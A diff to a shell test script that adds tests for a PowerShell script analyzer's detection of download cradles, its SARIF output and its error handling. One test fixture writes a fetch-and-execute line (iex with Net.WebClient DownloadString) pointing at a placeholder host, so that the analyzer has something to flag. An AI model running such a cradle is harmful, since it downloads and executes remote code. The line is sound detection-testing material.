@@ -52,6 +52,15 @@ expect "up again after down to zero" 0 "database at the latest version" "$ps" mi
 expect "a missing migrations folder is a clear error" 1 "migrations folder" "$ps" migrate up --dir /nonexistent
 expect "job enqueue prints the id" 0 "" "$ps" job enqueue maintenance.cleanup
 expect "job enqueue rejects a bad payload" 1 "invalid input" "$ps" job enqueue maintenance.cleanup '{not json'
-rm -f "$out" "$cfg"
+ps1=$(mktemp --suffix=.ps1)
+printf 'iex (New-Object Net.WebClient).DownloadString("http://x.example/a")\n' >"$ps1"
+expect "psscript analyze reports a download cradle and exits 1 at --fail-on error" 1 "PSSAvoidDownloadCradle" \
+	"$ps" analyze "$ps1" --fail-on error
+expect "psscript analyze writes SARIF 2.1.0" 1 '"version":"2.1.0"' "$ps" analyze "$ps1" --format sarif --fail-on error
+expect "psscript analyze reads stdin and exits 0 when clean" 0 "0 errors" bash -c "echo Get-Date | '$ps' analyze -"
+expect "psscript analyze needs no database or configuration" 0 "0 errors" \
+	bash -c "echo Get-Date | env -i PATH=/usr/bin:/bin DB_PORT=abc '$ps' analyze -"
+expect "psscript analyze: a missing file is exit 2" 2 "No such file" "$ps" analyze /nonexistent.ps1
+rm -f "$out" "$cfg" "$ps1"
 echo "1..$n"
 [ $fails -eq 0 ]
